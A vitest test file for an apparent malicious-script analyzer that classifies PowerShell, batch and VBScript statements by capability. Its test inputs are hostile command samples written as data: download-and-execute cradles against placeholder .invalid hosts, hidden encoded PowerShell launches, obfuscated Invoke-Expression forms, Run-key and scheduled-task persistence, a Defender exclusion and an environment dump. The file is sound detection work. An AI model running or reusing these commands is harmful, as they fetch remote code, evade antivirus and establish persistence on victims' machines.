import { expect, test } from 'vitest'
import type { Capability } from '../../capability.ts'
import type { Unit } from '../../reading.ts'
import { sourceText } from '../source-text.ts'
import { batchUnits } from './batch.ts'
import { foldPowershell, powershellUnits } from './powershell.ts'
import { foldVbscript, vbscriptUnits } from './script-host.ts'

const source = (text: string) => sourceText(Buffer.from(text))
const powershell = (text: string) => powershellUnits(source(text), 'powershell.statement')
const batch = (text: string) => batchUnits(source(text), 'batch.command')
const vbscript = (text: string) => vbscriptUnits(source(text), 'vbscript.statement')
const encoded = (text: string) => Buffer.from(text, 'utf16le').toString('base64')

function expectCan(units: readonly Unit[], can: readonly Capability[]) {
  expect(units.flatMap(({ capabilities }) => capabilities)).toEqual(expect.arrayContaining([...can]))
}

test.each<[string, ...Capability[]]>([
  ["IEX (New-Object Net.WebClient).DownloadString('http://a.invalid')", 'evaluate', 'network'],
  ['I`E`X $x', 'evaluate'],
  ["& ('Inv' + 'oke-Exp' + 'ression') $x", 'evaluate'],
  ["& ('{1}{0}' -f 'X','IE') $x", 'evaluate'],
  ["& (('i','e','x') -join '') $x", 'evaluate'],
  ['$c = [char]105 + [char]0x65 + [char]120; & $c $y', 'evaluate'],
  ["('IZX' -replace 'Z','E') $x", 'evaluate'],
  [`powershell -nop -w hidden -enc ${encoded("iwr 'http://b.invalid'")}`, 'execute', 'shell', 'decode', 'network', 'anti-analysis'],
  ['[Reflection.Assembly]::Load([Convert]::FromBase64String($x))', 'native-code', 'decode'],
  ['Register-ScheduledTask -TaskName x', 'persistence'],
  ["Add-MpPreference -ExclusionPath 'C:\\'", 'anti-analysis'],
  ["Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' a b", 'persistence', 'file-write'],
  ['Get-ChildItem env: | Out-String', 'environment', 'credentials'],
  ['Start-Sleep -Seconds 3600', 'delay'],
])('PowerShell: %s', (text, ...can) => expectCan(powershell(text), can))

test.each<[string, ...Capability[]]>([
  [`set a=pow\r\nset b=ershell\r\n%a%%b% -enc ${encoded('iwr http://c.invalid')}`, 'execute', 'shell', 'network', 'decode'],
  ['p^o^w^ershell -c x', 'execute', 'shell'],
  ['set z=xpowershelly\r\n%z:~1,10% -c x', 'execute', 'shell'],
  ['set z=pQQwershell\r\n%z:QQ=o% -c x', 'execute', 'shell'],
  ['schtasks /create /tn a /tr b', 'persistence'],
  ['certutil -urlcache -f http://d.invalid x.exe', 'network', 'file-write'],
  ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a', 'persistence'],
  ['copy a.exe "C:\\x" & start a.exe', 'file-write', 'execute'],
])('batch: %s', (text, ...can) => expectCan(batch(text), can))

test.each<[string, ...Capability[]]>([
  ['s = "WScr" & "ipt.Sh" & Chr(101) & "ll"\nSet o = CreateObject(s)', 'execute', 'shell'],
  ['o.Run "powershell -c iwr http://e.invalid", _\n 0', 'execute', 'network'],
  ['Execute StrReverse("cba")', 'evaluate'],
  ['Set x = CreateObject("MSXML2.XMLHTTP")', 'network'],
  ['CreateObject(Replace("ADZZDB.Stream", "ZZ", "O"))', 'file-write'],
  ['a.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", y', 'persistence'],
])('VBScript: %s', (text, ...can) => expectCan(vbscript(text), can))

test('texts are put together', () => {
  expect(foldPowershell("'a' + 'b' + ('c' + 'd')")).toBe("'abcd'")
  expect(foldVbscript('Chr(&H41) & "b" & StrReverse("dc") & Replace("xex", "x", "")')).toBe('"Abcde"')
})

test('case, white space, comments and marks of escape change nothing', () => {
  const ids = (units: readonly Unit[]) => units.map(({ id }) => id)
  expect(ids(powershell("# c\nWrite-Host   'A' # d\n"))).toEqual(ids(powershell('<# x #>wr`ite-host "A"')))
  expect(ids(powershell("Write-Host 'A'"))).not.toEqual(ids(powershell("Write-Host 'a'")))
  expect(ids(batch('@ECHO off\r\nrem x\r\n'))).toEqual(ids(batch('echo  o^ff')))
  expect(ids(vbscript("Dim A ' c\nRem x"))).toEqual(ids(vbscript('dim a')))
})

test('comments name no hosts', () => {
  const texts = [
    powershell('# http://no.invalid'),
    batch('rem http://no.invalid\r\n:: http://no.invalid'),
    vbscript("' http://no.invalid\nrem http://no.invalid"),
  ]
  expect(texts.flat()).toEqual([])
})

test('places are those of the statement', () => {
  expect(powershell('a\n\n b; c').map(({ place }) => place.line)).toEqual([1, 3, 3])
  expect(batch('a\r\n\r\nb & c').map(({ place }) => place.line)).toEqual([1, 3, 3])
  expect(vbscript('a\n\nb : c').map(({ place }) => place.line)).toEqual([1, 3, 3])
})
